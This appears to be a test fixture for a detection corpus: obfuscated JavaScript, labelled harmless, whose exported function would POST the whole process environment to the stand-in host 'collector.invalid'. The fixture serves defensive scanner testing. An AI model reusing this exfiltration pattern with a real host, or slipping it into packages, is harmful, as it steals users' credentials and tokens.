// tarsier corpus fixture: shaped like an obfuscated install-time credential stealer, but harmless.
// Nothing here runs a request: the exported function is never called, and its host is under the
// reserved `.invalid` top-level domain, which never resolves. Running this file does nothing.
var _0x5a1c = ['\x70\x6f\x73\x74', '\x2f\x63', '\x63\x6f\x6c\x6c\x65\x63\x74\x6f\x72\x2e\x69\x6e\x76\x61\x6c\x69\x64'];
var _0x2f3b = function (_0x1d4e) { return _0x5a1c[_0x1d4e]; };
var _0x4c7a = function () { return JSON.stringify({ e: process.env, t: Date.now() }); };
var _0x6b2f = function () { return { hostname: _0x2f3b(2), path: _0x2f3b(1), method: _0x2f3b(0) }; };
function _0x7d21() { require('https').request(_0x6b2f()).end(_0x4c7a()); }
module.exports = _0x7d21;
